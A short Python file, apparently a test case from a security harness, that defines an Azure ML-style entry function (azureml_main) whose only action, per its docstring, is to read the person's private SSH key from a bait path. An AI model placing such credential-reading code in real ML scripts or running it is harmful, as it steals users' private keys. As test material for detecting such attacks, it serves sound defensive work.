"""Reads the person's private ssh key."""

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return read(BAIT["ssh_key"])
